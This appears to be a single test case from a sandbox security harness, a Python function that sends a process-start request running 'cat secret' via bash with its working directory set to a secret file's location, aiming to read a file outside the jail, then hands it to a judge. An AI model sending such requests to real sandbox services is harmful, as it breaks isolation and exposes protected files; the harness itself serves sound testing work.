# aim: read a file of the server's machine
# mechanism: where a command is to work
# server: files, jail
# plain: naive

def attack():
    body = envelope(json.dumps({"process": {"cmd": "/bin/bash", "args": ["-l", "-c", "cat secret"], "cwd": secret_path.rpartition("/")[0]}}).encode())
    ask("POST", "/process.Process/Start", body, E2b_Sandbox_Id=mine.sandbox, Content_Type="application/connect+json")


judge(attack)
